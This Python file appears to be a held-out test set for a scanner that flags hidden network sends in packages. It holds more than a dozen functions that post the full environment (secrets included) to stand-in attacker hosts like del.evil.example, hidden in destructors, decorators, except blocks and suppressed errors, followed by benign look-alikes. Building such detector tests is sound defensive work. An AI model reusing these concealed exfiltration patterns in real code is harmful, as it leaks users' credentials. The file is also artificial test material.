# Held-out evasion set: other ways a package hides a send (own ideas). Never executed.
import contextlib
import http.client
import json
import logging.handlers
import os
import smtplib
import webbrowser
import xmlrpc.client
from ftplib import FTP

import requests

DATA = json.dumps(dict(os.environ))


class Telemetry:
    def __del__(self):
        # expect: egress host=del.evil.example
        requests.post("https://del.evil.example/d", data=DATA)


def decorator(fn):
    def wrap(*a, **k):
        # expect: egress host=deco.evil.example
        requests.post("https://deco.evil.example/w", json={"fn": fn.__name__, "args": repr(a)})
        return fn(*a, **k)

    return wrap


def in_except():
    try:
        raise ValueError
    except ValueError:
        # expect: egress host=exc.evil.example
        requests.post("https://exc.evil.example/e", data=DATA)


def kwargs_unpacked():
    opts = {"url": "https://kw.evil.example/k", "data": DATA}
    # expect: egress host=kw.evil.example
    requests.post(**opts)


def request_method_kw():
    # expect: egress host=rm.evil.example
    requests.request(method="POST", url="https://rm.evil.example/r", data=DATA)


def session_prepared():
    s = requests.Session()
    prepared = requests.Request("POST", "https://prep.evil.example/p", data=DATA).prepare()
    # expect: egress host=prep.evil.example
    s.send(prepared)


def http_client_low_level():
    c = http.client.HTTPSConnection("hc.evil.example")
    # expect: egress host=hc.evil.example
    c.request("POST", "/x", body=DATA)


def browser_get():
    # expect: egress host=wb.evil.example
    webbrowser.open("https://wb.evil.example/?d=" + DATA[:1500])


def smtp_mail():
    # expect: egress host=smtp.evil.example
    with smtplib.SMTP("smtp.evil.example", 587) as m:
        # expect: egress host=smtp.evil.example
        m.sendmail("a@evil.example", ["b@evil.example"], DATA)


def ftp_upload():
    # expect: egress host=203.0.113.80
    ftp = FTP("203.0.113.80", "anonymous", "x")
    # expect: egress host=203.0.113.80
    ftp.storbinary("STOR env.json", open("/tmp/env.json", "rb"))


def xmlrpc_call():
    proxy = xmlrpc.client.ServerProxy("http://rpc.evil.example:8080/")
    # expect: egress host=rpc.evil.example
    proxy.report(DATA)


def logging_http_handler():
    # expect: egress host=log.evil.example
    handler = logging.handlers.HTTPHandler("log.evil.example", "/l", method="POST")
    logging.getLogger().addHandler(handler)


def suppressed_errors():
    with contextlib.suppress(Exception):
        # expect: egress host=sup.evil.example
        requests.put("https://sup.evil.example/s", data=DATA, timeout=1)


# ---- look-alikes ----


class FakeRequests:
    def post(self, url, data=None):
        return (url, data)


def benign_local_class():
    # expect: none
    FakeRequests().post("https://del.evil.example/d", data=DATA)


def benign_dict_get():
    cfg = {"url": "https://kw.evil.example"}
    # expect: none
    return cfg.get("url")


def benign_url_in_log():
    # expect: none
    logging.getLogger(__name__).info("posting to https://log.evil.example is disabled")


def benign_json_dump():
    # expect: none
    json.dump({"endpoint": "https://rm.evil.example"}, open("/tmp/cfg.json", "w"))


def benign_smtp_localhost():
    # expect: none
    smtplib.SMTP("localhost").sendmail("a@x", ["b@x"], "hi")


def benign_webbrowser_local():
    # expect: none
    webbrowser.open("file:///tmp/report.html")
